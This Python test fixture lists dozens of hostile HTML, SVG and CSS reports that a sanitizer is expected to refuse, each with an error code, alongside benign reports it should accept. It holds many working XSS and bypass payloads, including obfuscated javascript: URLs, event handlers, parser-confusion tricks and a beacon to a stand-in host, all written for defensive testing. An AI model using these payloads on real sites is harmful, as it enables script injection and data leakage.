"""Reports that try to fetch, to run or to lead somewhere, each by the name of its way; and honest ones.

`ELSEWHERE` stands for another server; `RUN` for a script that tells the page around it, and that server, that it runs.
"""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field

__all__ = ["ELSEWHERE", "HONEST", "HOSTILE", "PIXEL", "RUN", "Hostile", "page"]

ELSEWHERE = "http://elsewhere.invalid"
RUN = "parent.postMessage('ran','*');new Image().src='http://elsewhere.invalid/ran';void 0"


def _pixel() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    row = b"\0" + 2 * b"\0\x80\0"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(2 * row)) + chunk(b"IEND", b"")


PIXEL = _pixel()
"""A green picture, two pixels wide: a browser may take the source for finer screens, and halve it."""


def page(body: str, head: str = "") -> str:
    """A page with a heading and a body."""
    return f'<!doctype html><html><head><meta charset="utf-8"><title>t</title>{head}</head><body>{body}</body></html>'


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """A report that must be refused."""

    page: str
    """Its `report.html`."""
    code: str
    """The code of an issue about it."""
    says: str
    """A part of its message."""
    at: str = "report.html"
    """The entry that is to blame."""
    files: Mapping[str, str] = field(default_factory=dict[str, str])
    """Its other files."""


def _body(body: str, code: str, says: str, **files: str) -> Hostile:
    return Hostile(page=page(body), code=code, says=says, files=_named(files))


def _head(head: str, code: str, says: str) -> Hostile:
    return Hostile(page=page("<p>x</p>", head), code=code, says=says)


def _css(css: str, code: str, says: str) -> Hostile:
    return _head(f"<style>{css}</style>", code, says)


def _sheet(css: str, code: str, says: str) -> Hostile:
    linked = page("<p>x</p>", '<link rel="stylesheet" href="style.css">')
    return Hostile(page=linked, code=code, says=says, at="style.css", files={"style.css": css})


def _svg(inner: str, code: str, says: str) -> Hostile:
    return _body(f'<svg viewBox="0 0 9 9"><text y="5">x</text>{inner}</svg>', code, says)


def _picture(text: str, code: str, says: str) -> Hostile:
    linked = page('<img alt="x" src="chart.svg"> <a href="chart.svg">chart</a>')
    return Hostile(page=linked, code=code, says=says, at="chart.svg", files={"chart.svg": text})


def _file(inner: str, code: str, says: str) -> Hostile:
    return _picture(f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{inner}</svg>', code, says)


def _named(files: Mapping[str, str]) -> dict[str, str]:
    return {name.replace("_", "."): text for name, text in files.items()}


def _data(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_BAD_SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'
_BAD_CSS = f'@import "{ELSEWHERE}/x.css";'

HOSTILE: dict[str, Hostile] = {
    # --- what contract 06 names
    "script-with-a-data-address": _body(
        f'<script src="data:text/javascript,{RUN}"></script>', "unsafe_address", "src of <script> is not a file"
    ),
    "svg-image-elsewhere": _svg(f'<image href="{ELSEWHERE}/x.png"/>', "unsafe_address", "not in the report"),
    "svg-use-elsewhere": _svg(f'<use href="{ELSEWHERE}/x.svg#a"/>', "unsafe_address", "not in the report"),
    "css-image-set": _css(f'body{{background:image-set("{ELSEWHERE}/x.png" 1x)}}', "unsafe_address", "image-set()"),
    "css-escaped-url": _css(rf"body{{background:u\72l({ELSEWHERE}/x.png)}}", "unsafe_address", "a url() of a style"),
    "css-escaped-import": _css(rf'@\69mport "{ELSEWHERE}/x.css";', "unsafe_style", "@import is not allowed"),
    "link-with-ping": _body(f'<a href="#x" ping="{ELSEWHERE}/ping">x</a>', "unsafe_attribute", "ping of <a>"),
    "button-with-formaction": _body(
        f'<button formaction="javascript:{RUN}">x</button>', "unsafe_attribute", "formaction of <button>"
    ),
    "animation-of-href": _svg(
        f'<a><animate attributeName="href" values="javascript:{RUN}" dur="1s"/><text y="5">x</text></a>',
        "unsafe_attribute",
        'must not change "href"',
    ),
    "set-of-href": _svg(
        f'<a><set attributeName="xlink:href" to="javascript:{RUN}"/><text y="5">x</text></a>',
        "unsafe_attribute",
        'must not change "xlink:href"',
    ),
    "style-sheet-in-a-data-address": _head(
        f'<link rel="stylesheet" href="data:text/css;base64,{_data(_BAD_CSS)}">', "unsafe_style", "@import"
    ),
    "script-in-a-linked-picture": _picture(_BAD_SVG, "unsafe_element", "<script> is not allowed in a picture"),
    "import-in-a-linked-style-sheet": _sheet(_BAD_CSS, "unsafe_style", "@import"),
    # --- elements
    **{
        f"element-{name}": _body(text, "unsafe_element", f"<{name}> is not allowed")
        for name, text in {
            "iframe": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
            "object": f'<object data="{ELSEWHERE}/x.svg"></object>',
            "embed": f'<embed src="{ELSEWHERE}/x.svg">',
            "form": f'<form action="{ELSEWHERE}/x"><input name="a"></form>',
            "portal": f'<portal src="{ELSEWHERE}/x"></portal>',
            "fencedframe": f'<fencedframe src="{ELSEWHERE}/x"></fencedframe>',
            "template": f'<div><template shadowrootmode="open"><img src="x" onerror="{RUN}"></template></div>',
            "xmp": '<xmp><p title="</xmp><img src=x onerror=x>"></xmp>',
            "noembed": '<noembed><p title="</noembed><img src=x onerror=x>"></noembed>',
            "noframes": '<noframes><p title="</noframes><img src=x onerror=x>"></noframes>',
            "plaintext": "<plaintext><p>",
            "marquee": f'<marquee onstart="{RUN}">x</marquee>',
            "bgsound": f'<bgsound src="{ELSEWHERE}/x.wav">',
            "keygen": f'<keygen autofocus onfocus="{RUN}">',
            "isindex": f'<isindex type="image" src="{ELSEWHERE}/x.png">',
            "applet": f'<applet code="x" codebase="{ELSEWHERE}/"></applet>',
            "param": '<param name="movie" value="x">',
        }.items()
    },
    "element-base": _head(f'<base href="{ELSEWHERE}/">', "unsafe_element", "<base> is not allowed"),
    "frameset": Hostile(
        page=f'<!doctype html><frameset><frame src="{ELSEWHERE}/x"></frameset>',
        code="unsafe_element",
        says="frames are not allowed",
    ),
    "frameset-that-parsers-disagree-about": Hostile(
        page=f'<!doctype html><i><html lang="a"><math><frameset><frame src="{ELSEWHERE}/x">',
        code="unsafe_element",
        says="frames are not allowed",
    ),
    "meta-refresh": _head(
        f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/x">', "unsafe_attribute", "http-equiv of <meta>"
    ),
    "meta-policy": _head(
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        "unsafe_attribute",
        "http-equiv of <meta>",
    ),
    "meta-encoding": _head('<meta charset="iso-2022-jp">', "unsafe_attribute", "a page is UTF-8"),
    "meta-referrer": _head('<meta name="referrer" content="unsafe-url">', "unsafe_attribute", "told to others"),
    "inline-script": _body(f"<script>{RUN}</script>", "unsafe_element", "a <script> without src"),
    "script-with-an-empty-address": _body(
        f'<script src=" ">{RUN}</script>', "unsafe_element", "a <script> without src"
    ),
    "script-elsewhere": _body(f'<script src="{ELSEWHERE}/x.js"></script>', "unsafe_address", "src of <script>"),
    "script-beside-the-report": _body('<script src="../x.js"></script>', "unsafe_address", "leads out of the report"),
    "script-that-is-not-there": _body('<script src="x.js"></script>', "entry_missing", "src of <script>"),
    "speculation-rules": _body(
        f'<script type="speculationrules">{{"prefetch":[{{"urls":["{ELSEWHERE}/x"]}}]}}</script>',
        "unsafe_element",
        "a <script> without src",
    ),
    "speculation-rules-in-a-file": _body(
        '<script type="speculationrules" src="rules.json"></script>',
        "unsafe_attribute",
        'type of <script> is "speculationrules"',
        rules_json=f'{{"prefetch":[{{"urls":["{ELSEWHERE}/x"]}}]}}',
    ),
    "import-map": _body('<script type="importmap">{}</script>', "unsafe_element", "a <script> without src"),
    **{
        f"link-{rel.replace(' ', '-')}": _head(
            f'<link rel="{rel}" as="image" href="{ELSEWHERE}/x">', "unsafe_element", 'other than rel="stylesheet"'
        )
        for rel in (
            *("preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon", "manifest"),
            *("import", "alternate stylesheet", "stylesheet dns-prefetch"),
        )
    },
    "link-imagesrcset": _head(
        f'<link rel="stylesheet" href="" imagesrcset="{ELSEWHERE}/x 1x">', "unsafe_attribute", "imagesrcset of <link>"
    ),
    "style-sheet-elsewhere": _head(
        f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">', "unsafe_address", "href of <link>"
    ),
    # --- attributes
    "handler-onerror": _body(f'<img src="" alt="x" onerror="{RUN}">', "unsafe_attribute", "onerror of <img>"),
    "handler-ontoggle": _body(f'<details open ontoggle="{RUN}">x</details>', "unsafe_attribute", "ontoggle"),
    "handler-onfocus": _body(f'<input autofocus onfocus="{RUN}">', "unsafe_attribute", "onfocus"),
    "handler-after-a-slash": _body(f'<p/onclick="{RUN}">x</p>', "unsafe_attribute", "onclick of <p>"),
    "handler-in-capitals": _body(f'<p OnClick="{RUN}">x</p>', "unsafe_attribute", "onclick of <p>"),
    "handler-on-the-second-body": Hostile(
        page=page(f'<p>x</p><body onload="{RUN}">'), code="unsafe_attribute", says="onload of <body>"
    ),
    "handler-in-a-picture": _svg(
        f'<rect width="1" height="1" onload="{RUN}"/>', "unsafe_attribute", "onload of <rect>"
    ),
    "handler-of-an-animation": _svg(
        f'<animate onbegin="{RUN}" attributeName="x" dur="1s"/>', "unsafe_attribute", "onbegin of <animate>"
    ),
    "manifest-of-html": Hostile(
        page=f'<!doctype html><html manifest="{ELSEWHERE}/x"><body>x',
        code="unsafe_attribute",
        says="manifest of <html>",
    ),
    "attribution": _body(
        f'<img alt="x" attributionsrc="{ELSEWHERE}/x">', "unsafe_attribute", "attributionsrc of <img>"
    ),
    "image-input": _body(f'<input type="image" src="{ELSEWHERE}/x.png">', "unsafe_address", "src of <input>"),
    "image-in-image-spelling": _body(f'<image src="{ELSEWHERE}/x.png">', "unsafe_address", "src of <img>"),
    "image-elsewhere-without-scheme": _body(
        '<img alt="x" src="//elsewhere.invalid/x">', "unsafe_address", "src of <img>"
    ),
    "image-elsewhere-with-backslashes": _body(
        r'<img alt="x" src="\\elsewhere.invalid\x">', "unsafe_address", "src of <img>"
    ),
    "image-elsewhere-with-a-tab": _body(
        '<img alt="x" src="\t/\n/elsewhere.invalid/x">', "unsafe_address", "src of <img>"
    ),
    "image-elsewhere-without-slashes": _body('<img alt="x" src="http:x.png">', "unsafe_address", "src of <img>"),
    "image-of-the-server": _body('<img alt="x" src="/logout">', "unsafe_address", "src of <img>"),
    "image-beside-the-report": _body('<img alt="x" src="a/../../x.png">', "unsafe_address", "leads out of the report"),
    "image-beside-the-report-encoded": _body(
        '<img alt="x" src="%2e%2e/x.png">', "unsafe_address", "leads out of the report"
    ),
    "image-that-is-not-there": _body('<img alt="x" src="x.png?v=1">', "entry_missing", "src of <img>"),
    "srcset": _body(
        f'<img alt="x" src="" srcset="data:, 1x, {ELSEWHERE}/x.png 2x">', "unsafe_address", "srcset of <img>"
    ),
    "srcset-of-source": _body(
        f'<picture><source srcset="{ELSEWHERE}/x.png"><img alt="x" src=""></picture>',
        "unsafe_address",
        "srcset of <source>",
    ),
    "poster": _body(f'<video poster="{ELSEWHERE}/x.png"></video>', "unsafe_address", "poster of <video>"),
    "track": _body(f'<video><track src="{ELSEWHERE}/x.vtt" default></video>', "unsafe_address", "src of <track>"),
    "audio": _body(f'<audio src="{ELSEWHERE}/x.ogg" preload="auto"></audio>', "unsafe_address", "src of <audio>"),
    "background": _body(f'<table background="{ELSEWHERE}/x.png"><tr><td>x</table>', "unsafe_address", "background"),
    "image-with-a-page-in-its-address": _body(
        '<img alt="x" src="data:text/html,x">', "unsafe_address", 'of the kind "text/html"'
    ),
    "script-in-a-data-picture": _body(
        f'<img alt="x" src="data:image/svg+xml;base64,{_data(_BAD_SVG)}">', "unsafe_element", "<script>"
    ),
    "data-picture-in-another-encoding": _body(
        '<img alt="x" src="data:image/svg+xml;charset=utf-7,x">', "unsafe_address", "charset=utf-7"
    ),
    # --- links
    **{
        f"href-{name}": _body(f'<a href="{href}">x</a>', "unsafe_address", "href of <a> is an address of the kind")
        for name, href in {
            "javascript": f"javascript:{RUN}",
            "javascript-with-a-tab": f"java\tscript:{RUN}",
            "javascript-with-a-newline-entity": f"java&NewLine;script&colon;{RUN}",
            "javascript-in-references": f"&#x6a;avascript:{RUN}",
            "javascript-after-a-control": f"&#1;javascript:{RUN}",
            "javascript-in-capitals": f" JaVaScRiPt:{RUN}",
            "vbscript": "vbscript:msgbox(1)",
            "page-in-a-data-address": f"data:text/html,<script>{RUN}</script>",
            "picture-in-a-data-address": "data:image/svg+xml,<svg/>",
            "blob": "blob:null/x",
            "file": "file:///etc/passwd",
            "view-source": "view-source:x",
        }.items()
    },
    "href-of-area": _body(
        f'<map name="m"><area shape="default" href="javascript:{RUN}"></map>', "unsafe_address", "href of <area>"
    ),
    "cite": _body(f'<q cite="javascript:{RUN}">x</q>', "unsafe_address", "cite of <q>"),
    "longdesc": _body(f'<img alt="x" src="" longdesc="javascript:{RUN}">', "unsafe_address", "longdesc of <img>"),
    "href-of-another-element": _body(f'<p href="javascript:{RUN}">x</p>', "unsafe_attribute", "href of <p>"),
    "href-in-a-formula": _body(
        f'<math><mrow href="javascript:{RUN}"><mi>x</mi></mrow></math>', "unsafe_attribute", "href of <mrow>"
    ),
    "formula-that-acts": _body(
        f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
        "unsafe_element",
        "<maction> is not allowed in a formula",
    ),
    "formula-with-html": _body(
        f'<math><annotation-xml encoding="text/html"><img src="x" onerror="{RUN}"></annotation-xml></math>',
        "unsafe_element",
        "<annotation-xml> is not allowed in a formula",
    ),
    "page-that-is-linked": Hostile(
        page=page('<a href="more.html">more</a>'),
        code="unsafe_attribute",
        says="onclick of <p>",
        at="more.html",
        files={"more.html": page(f'<p onclick="{RUN}">x</p>')},
    ),
    "page-of-an-unchecked-kind": Hostile(
        page=page('<a href="more.xhtml">more</a>'),
        code="unsafe_address",
        says="cannot be checked",
        at="more.xhtml",
        files={"more.xhtml": "<html/>"},
    ),
    # --- SVG in the page
    "svg-script": _svg(f'<script href="{ELSEWHERE}/x.js"></script>', "unsafe_element", "<script> is not allowed in"),
    "svg-script-with-src": _svg(
        f'<script src="{ELSEWHERE}/x.js"></script>', "unsafe_element", "<script> is not allowed in"
    ),
    "svg-link": _svg(
        f'<a xlink:href="javascript:{RUN}"><text y="5">x</text></a>', "unsafe_address", "xlink:href of <a>"
    ),
    "svg-image-in-the-old-spelling": _svg(f'<image xlink:href="{ELSEWHERE}/x"/>', "unsafe_address", "xlink:href"),
    "svg-use-of-a-data-address": _svg(
        f'<use href="data:image/svg+xml;base64,{_data(_BAD_SVG)}#a"/>', "unsafe_address", "must not be a data address"
    ),
    "svg-feimage": _svg(
        f'<filter id="f"><feImage href="{ELSEWHERE}/x.png"/></filter>', "unsafe_address", "href of <feImage>"
    ),
    "svg-foreignobject": _svg(
        f'<foreignObject><iframe src="{ELSEWHERE}/x"></iframe></foreignObject>', "unsafe_element", "<foreignObject>"
    ),
    "svg-fill": _svg(f'<rect fill="url({ELSEWHERE}/x.svg#a)"/>', "unsafe_address", "a url() of a style"),
    "svg-filter": _svg(f'<rect filter="url(&quot;{ELSEWHERE}/x.svg#a&quot;)"/>', "unsafe_address", "url() of a style"),
    "svg-animated-fill": _svg(
        f'<rect><set attributeName="fill" to="url({ELSEWHERE}/x.svg#a)"/></rect>', "unsafe_address", "url() of a style"
    ),
    "svg-animation-of-a-handler": _svg(
        '<rect><set attributeName="onclick" to="x"/></rect>', "unsafe_attribute", 'must not change "onclick"'
    ),
    "svg-style": _svg(f"<style>rect{{fill:url({ELSEWHERE}/x.svg#a)}}</style>", "unsafe_address", "url() of a style"),
    "svg-style-in-references": _svg('<style>&#64;import "x.css";</style>', "unsafe_style", "@import"),
    "svg-style-in-cdata": _svg('<style><![CDATA[@import "x.css";]]></style>', "unsafe_style", "@import"),
    "svg-base": _svg(f'<g xml:base="{ELSEWHERE}/"><use href="#a"/></g>', "unsafe_attribute", "xml:base of <g>"),
    "svg-handler-element": _svg(f'<handler type="x">{RUN}</handler>', "unsafe_element", "<handler>"),
    "svg-font-elsewhere": _svg(
        f'<font-face-uri xlink:href="{ELSEWHERE}/x"/>', "unsafe_element", "<font-face-uri> is not allowed"
    ),
    "svg-title-with-a-page": _svg(
        f'<title><img src="x" onerror="{RUN}"></title>', "unsafe_attribute", "onerror of <img>"
    ),
    "svg-desc-with-a-page": _svg(f'<desc><iframe src="{ELSEWHERE}/x"></iframe></desc>', "unsafe_element", "<iframe>"),
    # --- where parsers disagree, or one reads twice
    "comment-that-ends-at-once": _body(f'<!--><img src="x" onerror="{RUN}">-->', "unsafe_attribute", "onerror"),
    "comment-that-ends-after-a-dash": _body(f'<!---><img src="x" onerror="{RUN}">-->', "unsafe_attribute", "onerror"),
    "comment-that-ends-with-a-bang": _body(f'<!-- --!><img src="x" onerror="{RUN}">-->', "unsafe_attribute", "onerror"),
    "cdata-in-html": _body(f'<![CDATA[ ><img src="x" onerror="{RUN}"> ]]>', "unsafe_attribute", "onerror"),
    "instruction-in-html": _body(f'<?x ><img src="x" onerror="{RUN}"> ?>', "unsafe_attribute", "onerror"),
    "noscript": _body(
        f'<noscript><p title="</noscript><img src=x onerror={RUN.split(";")[0]}>"></noscript>',
        "unsafe_attribute",
        "onerror of <img>",
    ),
    "style-with-markup": _css("a{}</style ><p onclick=x><style>", "unsafe_attribute", "onclick of <p>"),
    "style-in-the-body-with-a-comment": _body("<style><!-- a{} --></style>", "unsafe_markup", "a <style> holds markup"),
    "style-in-a-picture-that-is-left": _body(
        f'<svg></p><style><p title="</style><img src=x onerror={RUN.split(";")[0]}>"></style></svg>',
        "unsafe_markup",
        "a <style> holds markup",
    ),
    "style-in-a-formula": _body(
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN.split(";")[0]}&gt;">',
        "unsafe_element",
        "<mglyph>",
    ),
    "select-that-keeps-more": _body(
        f'<select><style><p title="</style><img src=x onerror={RUN.split(";")[0]}>"></style></select>',
        "unsafe_markup",
        "in <select>",
    ),
    "nul": _body("<p>\0</p>", "unsafe_markup", "a NUL"),
    "form-in-a-table": _body(f'<table><form action="{ELSEWHERE}/x"><tr><td>x</table>', "unsafe_element", "<form>"),
    # --- CSS
    "css-url": _css(f"body{{background:url({ELSEWHERE}/x.png)}}", "unsafe_address", "a url() of a style"),
    "css-url-in-quotes": _css(f'body{{background:url( "{ELSEWHERE}/x.png" )}}', "unsafe_address", "url() of a style"),
    "css-url-in-capitals": _css(f"body{{background:URL({ELSEWHERE}/x.png)}}", "unsafe_address", "url() of a style"),
    "css-url-escaped-scheme": _css(
        r"body{background:url(\68ttp://elsewhere.invalid/x.png)}", "unsafe_address", "url() of a style"
    ),
    "css-url-broken": _css(f"body{{background:url({ELSEWHERE}/x y)}}", "unsafe_style", "a url() that is not one"),
    "css-url-unfinished": _css(f"body{{background:url({ELSEWHERE}/x.png", "unsafe_address", "url() of a style"),
    "css-in-an-attribute": _body(
        f'<p style="background:url({ELSEWHERE}/x)">x</p>', "unsafe_address", "url() of a style"
    ),
    "css-custom-property": _css(
        f"body{{--a:url({ELSEWHERE}/x.png);background:var(--a)}}", "unsafe_address", "url() of a style"
    ),
    "css-address-from-a-variable": _css(
        f'body{{--a:"{ELSEWHERE}/x.png";background:image-set(var(--a) 1x)}}', "unsafe_style", "var() within image-set()"
    ),
    "css-webkit-image-set": _css(
        f"body{{background:-webkit-image-set(url({ELSEWHERE}/x.png) 1x)}}", "unsafe_address", "url() of a style"
    ),
    "css-src": _css(f'body{{background:src("{ELSEWHERE}/x.png")}}', "unsafe_address", "src() of a style"),
    "css-src-from-a-variable": _css("body{background:src(var(--a))}", "unsafe_style", "var() within src()"),
    "css-image": _css(f'body{{background:image("{ELSEWHERE}/x.png")}}', "unsafe_address", "image() of a style"),
    "css-cross-fade": _css(
        f"body{{background:cross-fade(url({ELSEWHERE}/x.png),url(#a),50%)}}", "unsafe_address", "url() of a style"
    ),
    "css-element": _css("body{background:-moz-element(#a)}", "unsafe_style", "-moz-element() is not allowed"),
    "css-paint": _css("body{background:paint(x)}", "unsafe_style", "paint() is not allowed"),
    "css-own-function": _css("@function --f(){result:url(#a)}", "unsafe_style", "@function is not allowed"),
    "css-expression": _css("p{width:expression(alert(1))}", "unsafe_style", "expression() is not allowed"),
    "css-behavior": _css(r"p{beh\61vior:url(#x)}", "unsafe_style", "behavior is not allowed"),
    "css-binding": _css("p{-moz-binding : url(#x)}", "unsafe_style", "-moz-binding is not allowed"),
    "css-font": _css(
        f"@font-face{{font-family:a;src:url({ELSEWHERE}/x.woff)}}p{{font-family:a}}",
        "unsafe_address",
        "url() of a style",
    ),
    "css-import-with-layer": _css(f"@import url({ELSEWHERE}/x.css) layer(a);", "unsafe_style", "@import"),
    "css-namespace": _css(f'@namespace a "{ELSEWHERE}/";', "unsafe_style", "@namespace is not allowed"),
    "css-document": _css(f"@document url({ELSEWHERE}/){{}}", "unsafe_style", "@document is not allowed"),
    "css-cursor": _css(f"body{{cursor:url({ELSEWHERE}/x.cur),auto}}", "unsafe_address", "url() of a style"),
    "css-page-in-an-address": _css("body{background:url(data:text/html,x)}", "unsafe_address", 'kind "text/html"'),
    "css-script-in-an-address": _css(
        f"body{{background:url(data:image/svg+xml;base64,{_data(_BAD_SVG)})}}", "unsafe_element", "<script>"
    ),
    "css-javascript": _css("body{background:url('javascript:alert(1)')}", "unsafe_address", "url() of a style"),
    "css-in-a-file": _sheet(f"body{{background:url({ELSEWHERE}/x.png)}}", "unsafe_address", "url() of a style"),
    "css-in-a-file-leads-out": _sheet("body{background:url(../x.png)}", "unsafe_address", "leads out of the report"),
    "css-in-a-file-of-another-name": Hostile(
        page=page("<p>x</p>", '<link rel="stylesheet" href="style.txt">'),
        code="unsafe_style",
        says="@import",
        at="style.txt",
        files={"style.txt": _BAD_CSS},
    ),
    # --- SVG files
    "file-with-a-style-sheet": _picture(
        f'<?xml-stylesheet href="{ELSEWHERE}/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "unsafe_markup",
        "<?xml-stylesheet?>",
    ),
    "file-with-entities": _picture(
        f'<!DOCTYPE svg [<!ENTITY a "{RUN}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
        "unsafe_markup",
        "its own document type",
    ),
    "file-with-added-attributes": _picture(
        f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]><svg xmlns="http://www.w3.org/2000/svg"/>',
        "unsafe_markup",
        "its own document type",
    ),
    "file-in-another-encoding": _picture(
        '<?xml version="1.0" encoding="utf-7"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "unsafe_markup",
        "must be UTF-8",
    ),
    "file-that-is-broken": _picture(
        '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', "unsafe_markup", "not well-formed XML"
    ),
    "file-that-is-a-page": _picture(
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>', "unsafe_element", "of HTML"
    ),
    "file-with-a-prefixed-script": _picture(
        f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{RUN}</s:script></s:svg>',
        "unsafe_element",
        "<script> is not allowed in a picture",
    ),
    "file-with-a-page-inside": _file(
        f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>', "unsafe_element", "<script> of HTML"
    ),
    "file-with-a-handler": _file(f'<rect onload="{RUN}"/>', "unsafe_attribute", "onload of <rect>"),
    "file-with-a-link": _file(
        f'<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:{RUN}"><text>x</text></a>',
        "unsafe_address",
        "xlink:href of <a>",
    ),
    "file-with-a-style": _file("<style><![CDATA[@import 'x.css';]]></style>", "unsafe_style", "@import"),
    "file-with-an-image": _file(f'<image href="{ELSEWHERE}/x.png"/>', "unsafe_address", "href of <image>"),
}
"""By the name of the way."""


_CHART = """<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="90pt" height="30pt" viewBox="0 0 90 30"
  xmlns="http://www.w3.org/2000/svg" version="1.1">
 <metadata><rdf:RDF xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work><dc:type
   rdf:resource="http://purl.org/dc/dcmitype/StillImage"/><dc:date>2026</dc:date></cc:Work></rdf:RDF></metadata>
 <defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style>
  <linearGradient id="g"><stop offset="0" stop-color="#f00"/><stop offset="1" stop-color="green"/></linearGradient>
  <path id="m" d="M 0 0 L 0 3.5" style="stroke: #000000; stroke-width: 0.8"/>
  <clipPath id="p1"><rect x="1" y="1" width="88" height="28"/></clipPath></defs>
 <g id="figure_1"><path d="M 0 30 L 90 0" clip-path="url(#p1)" style="fill: none; stroke: #1f77b4"/>
  <use xlink:href="#m" x="20" y="20" style="stroke: #000000"/><rect width="9" height="9" fill="url(#g)"/>
  <text transform="translate(5 20)" text-anchor="start">score</text></g>
</svg>"""

_STYLE = """@charset "utf-8";
/* @import is in a comment */
:root { --ink: #223; color-scheme: light dark }
@media (width < 600px) { td, th { padding: calc(.2rem + 1px) } }
@font-face { font-family: "Own"; src: url("fonts/own.woff2") format("woff2"), local("Georgia") }
@keyframes grow { from { opacity: 0 } to { transform: translateX(1px) rotate(2deg) } }
.bar { background: linear-gradient(90deg, rgb(0 128 0 / 50%), hsl(120 50% 50%)) }
.logo { background: url(pixel.png) no-repeat, url('data:image/svg+xml,%3Csvg xmlns="http://www.w3.org/2000/svg"/%3E') }
tr:nth-child(2n+1):not(.total) > td::before { content: "\\2192 <b>"; color: var(--ink, #000) }
"""

HONEST: dict[str, dict[str, bytes]] = {
    "small": {"report.html": b"<h1>Shown</h1><p>No head, no doctype."},
    "empty": {"report.html": b"\xef\xbb\xbf<!doctype html><p>Shown"},
    "tables-and-style": {
        "report.html": page(
            '<h1 id="top" class="a b" data-run="7" aria-label="x">Shown</h1>'
            '<table border="1"><caption>Scores</caption>'
            '<thead><tr><th scope="col" style="text-align:right">slot</th></tr>'
            '</thead><tbody><tr><td colspan="2" bgcolor="#eee">1 &lt; 2 &amp; 3</td></tr></tbody></table>'
            '<details open><summary>More</summary><p title="a <b> c">text <!-- <b>old</b> --></p></details>'
            '<a href="https://example.com/?a=1#b" target="_blank" rel="noopener">out</a> <a href="#top">up</a> '
            '<a href="mailto:a@example.com">mail</a> <a href="data:text/csv,a%2Cb" download="a.csv">data</a>'
            '<label><input type="checkbox" checked> on</label> <progress max="3" value="2"></progress>'
            "<select><optgroup label='a'><option>b</optgroup><hr><option selected>c</select><my-chart>x</my-chart>",
            "<style>/* <a@example.com> */ body{font:16px/1.4 system-ui,sans-serif;margin:2rem}"
            "@media print{a{color:#000}}</style>"
            '<meta name="viewport" content="width=device-width, initial-scale=1">'
            '<meta name="color-scheme" content="light dark">',
        ).encode()
    },
    "files": {
        "report.html": page(
            '<h1>Shown</h1><img alt="pixel" src="img/pixel.png?v=2" srcset="img/pixel.png 1x, ./img/pixel.png 2x">'
            f'<img alt="data" src="data:image/png;base64,{base64.b64encode(PIXEL).decode()}">'
            '<img alt="chart" src="chart.svg"><a href="more/page.html">more</a> <a href="nothing">dead</a>'
            "<noscript><p>Scripts are off.</p></noscript>"
            '<svg width="9" height="9" role="img"><title>a &lt;b&gt;</title>'
            '<circle cx="4" cy="4" r="3" fill="url(#g)">'
            '<animate attributeName="r" values="1;3" dur="2s"/></circle></svg>'
            '<math display="block"><mfrac><mi>a</mi><mn>2</mn></mfrac></math>',
            '<link rel="stylesheet" type="text/css" href="style/main.css?1">',
        ).encode(),
        "more/page.html": page('<img alt="p" src="../img/pixel.png"><a href="../report.html">back</a>').encode(),
        "chart.svg": _CHART.encode(),
        "style/main.css": _STYLE.encode(),
        "style/pixel.png": PIXEL,
        "style/fonts/own.woff2": b"wOF2",
        "img/pixel.png": PIXEL,
    },
    "what-does-not-run": {
        "report.html": page(
            '<h1>Shown</h1><script src="js/app.js" defer></script>'
            '<script type="module" src="./js/app.js"></script>'
            '<video controls poster="pixel.png" src="film.mp4"></video>'
            '<audio src="data:audio/ogg;base64,AAAA"></audio>',
            '<link rel="stylesheet" href="data:text/css,p{color:red}">',
        ).encode(),
        "js/app.js": f"{RUN};document.querySelector('h1').textContent='ran'".encode(),
        "pixel.png": PIXEL,
        "film.mp4": b"\0",
    },
    "markdown": {
        "report.md": (
            b"# Shown\n\n| slot | score |\n|---|--:|\n| 0 | **3** |\n\n<script>x</script> <b onclick=x>raw</b>\n\n"
            b"![pixel](img/pixel.png) ![out](http://elsewhere.invalid/x.png) [js](javascript:x) [out](https://example.com)\n\n"
            b"![gone](gone.png)\n\n```html\n<iframe src=x>\n```\n\n~~old~~ <https://example.com> \0\n"
        ),
        "img/pixel.png": PIXEL,
    },
}
"""Files by name, by the name of the report; each shows the word Shown."""
